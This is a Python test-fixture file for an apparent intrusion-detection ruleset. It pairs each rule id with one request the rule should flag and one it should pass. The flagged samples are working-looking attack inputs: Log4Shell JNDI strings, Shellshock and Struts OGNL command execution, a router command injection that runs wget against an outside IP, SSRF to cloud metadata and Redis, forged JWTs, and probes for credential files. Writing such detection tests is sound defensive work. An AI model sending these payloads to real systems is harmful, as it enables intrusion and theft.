"""What each rule that ships finds and what it leaves alone: sid, a request that it matches, one that it does not.

A request is its target (with its method when it is not GET), a header line, a body. The one law: no rule without both.
"""

from __future__ import annotations

LONG_LIST = "/api/users?ids=" + ",".join(map(str, range(300)))
CASES: list[tuple[int, tuple[str | bytes, ...], tuple[str | bytes, ...]]] = [
    (9100101, ('/.git/HEAD', ''), ('/docs/.github/x', '')),
    (9100102, ('/api/.env', ''), ('/.environment/x', '')),
    (9100103, ('/.svn/entries', ''), ('/.well-known/x', '')),
    (9100104, ('/.aws/credentials', ''), ('/awsome/credentials', '')),
    (9100105, ('/backup.sql', ''), ('/exports/report-2026.zip', '')),
    (9100106, ('/appsettings.Production.json', ''), ('/settings.json', '')),
    (9100201, ('/actuator/heapdump', ''), ('/actuator/health', '')),
    (9100202, ('/debug/pprof/heap', ''), ('/api/debugger-sessions', '')),
    (9100203, ('/v3/api-docs', ''), ('/api/docs-of-law/3', '')),
    (9100204, ('/graphiql', ''), ('/graphql', '')),
    (9100301, ('/', 'X-Api-Version: ${jndi:ldap://203.0.113.9/a}'), ('/', 'X-Note: ${user}')),
    (9100302, ('/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D', ''), ('/?q=%24%7Bx%7D', '')),
    (9100303, ('/', '', b'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), ('/', '', b'class=module&loader=1')),
    (9100304, ('/', 'User-Agent: () { :;}; /bin/id'), ('/', 'X-Code: function() { return }')),
    (9100305, ('/', "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"), ('/', 'Content-Type: multipart/form-data; boundary=x')),
    (9100306, ('/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/', ''), ('/price/%24%7Bplan%7D', '')),
    (9100307, ('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ''), ('/vendor/stdin.php', '')),
    (9100308, ('/autodiscover/autodiscover.json?@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.test', ''), ('/autodiscover/autodiscover.json?Email=a@b.test', '')),
    (9100309, ('/uploads/x.php?cmd=whoami', ''), ('/run.php?cmd=start-report', '')),
    (9100310, ('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://203.0.113.9/x)', ''), ('/cgi-bin/status?page=1', '')),
    (9100401, ('/', 'Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.'), ('/', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln')),
    (9100402, ('/', 'Authorization: Basic YWRtaW46YWRtaW4='), ('/', 'Authorization: Basic YWxpY2U6c2VjcmV0')),
    (9100403, ('/', 'X-Custom-IP-Authorization: 127.0.0.1'), ('/', 'X-Note: see 127.0.0.1')),
    (9100404, ('/', 'X-Original-URL: /admin/users'), ('/', 'X-Original-URL: /shop')),
    (9100405, ('/graphql', '', b'{"query":"mutation {' + b''.join(b'a%d: login(user: \\"bob\\", password: \\"p%d\\") { token } ' % (n, n) for n in range(6)) + b'}"}'), ('/graphql', '', b'{"query":"mutation { login(user: \\"bob\\", password: \\"p\\") { token } }"}')),
    (9100501, ('/', 'Transfer-Encoding : chunked'), ('/', 'Transfer-Encoding: chunked')),
    (9100502, ('TRACE /', ''), ('/trace', '')),
    (9100503, ('GET http://127.0.0.1/admin', ''), ('/http://x', '')),
    (9100504, ('PROPFIND /', 'Depth: 1'), ('/propfind', 'A: b')),
    (9100601, ('/fetch?url=http://169.254.169.254/latest/meta-data/', ''), ('/fetch?url=http://169.253.1.1/', '')),
    (9100602, ('/', '', b'{"url":"http://169.254.169.254/"}'), ('/', '', b'{"ip":"169.254.1.1"}')),
    (9100603, ('/fetch?u=gopher://127.0.0.1:6379/_INFO', ''), ('/fetch?u=https://example.com/', '')),
    (9100701, ('/api/v0/users', ''), ('/api/v1/users', '')),
    (9100702, ('PATCH /api/me', 'Content-Type: application/json', b'{"role":"admin"}'), ('PATCH /api/me', 'Content-Type: application/json', b'{"name":"a"}')),
    (9100703, ('/api/orders?limit=1000000', ''), ('/api/orders?limit=100', '')),
    (9100704, ('/api/coupons/X', ''), ('/api/orders', '')),
    (9100705, (LONG_LIST, ''), ('/api/users?ids=1,2,3', '')),
    (9100706, ('/', '', b'{"url":"http://10.0.0.5/x"}'), ('/', '', b'{"url":"https://hooks.example.com/x"}')),
]
